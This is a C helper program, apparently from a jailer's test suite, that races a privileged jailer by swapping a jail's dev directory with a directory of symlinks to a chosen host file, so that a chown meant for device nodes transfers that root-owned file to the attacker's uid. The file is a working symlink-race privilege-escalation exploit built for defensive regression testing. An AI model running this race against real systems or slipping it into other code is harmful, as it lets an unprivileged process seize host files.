/* jail_swapper ROOT STAGE VICTIM SECONDS: a process of a jail's uid on the host attacking the
 * jailer (tests/jail/test_jailer.py::test_the_jail_is_handed_over_after_the_namespace).
 *
 * It waits until ROOT (a jail's root/) belongs to it, moves two directories of its own from
 * STAGE into it, A (empty) and B (a symlink to VICTIM for each device node's name), and then
 * swaps dev with A and with B over and over (renameat2 RENAME_EXCHANGE): if root still works
 * in the tree by path after handing it over (mknod, then chown of dev/kvm), the chown can land
 * on the symlink and give VICTIM, a root-owned host file, to this uid. Prints "won" and exits 0
 * when VICTIM became its own; exits 1 when SECONDS passed (or the jail went away) without. */
#include <fcntl.h>
#include <linux/fs.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static int swap(int dir, const char *a, const char *b)
{
	return (int)syscall(SYS_renameat2, dir, a, dir, b, RENAME_EXCHANGE);
}

static int owned(const char *path)
{
	struct stat st;
	return stat(path, &st) == 0 && st.st_uid == getuid();
}

int main(int argc, char **argv)
{
	if (argc != 5) {
		fprintf(stderr, "usage: jail_swapper ROOT STAGE VICTIM SECONDS\n");
		return 2;
	}
	const char *root = argv[1], *stage = argv[2], *victim = argv[3];
	double end = now() + atof(argv[4]);
	static const char *const nodes[] = { "kvm", "urandom", "null", "userfaultfd" };
	char a[2048], b[2048], p[4096];
	snprintf(a, sizeof(a), "%s/A", stage);
	snprintf(b, sizeof(b), "%s/B", stage);
	if ((mkdir(a, 0755) && !owned(a)) || (mkdir(b, 0755) && !owned(b)))
		return 2;
	for (size_t i = 0; i < sizeof(nodes) / sizeof(nodes[0]); i++) {
		snprintf(p, sizeof(p), "%s/%s", b, nodes[i]);
		if (symlink(victim, p) < 0)
			return 2;
	}
	while (!owned(root))
		if (now() > end)
			return 1;
	int dir = open(root, O_RDONLY | O_DIRECTORY);
	char ra[4096 + 4], rb[4096 + 4];
	snprintf(ra, sizeof(ra), "%s/A", root);
	snprintf(rb, sizeof(rb), "%s/B", root);
	if (dir < 0 || rename(a, ra) < 0 || rename(b, rb) < 0)
		return 1; /* the jail is gone already */
	while (now() < end) {
		for (int k = 0; k < 1000; k++) {
			swap(dir, "dev", "A");
			swap(dir, "dev", "B");
		}
		if (owned(victim)) {
			printf("won\n");
			return 0;
		}
	}
	return 1;
}
